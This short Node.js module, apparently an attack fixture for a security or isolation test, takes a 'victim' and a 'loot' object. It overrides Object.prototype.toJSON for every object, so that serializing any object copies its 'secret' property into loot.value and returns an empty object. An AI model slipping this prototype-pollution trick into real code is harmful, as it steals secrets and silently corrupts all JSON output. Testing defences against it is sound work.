'use strict';
module.exports = (victim, loot) => {
  Object.prototype.toJSON = function () { loot.value = this.secret; return {}; };
};
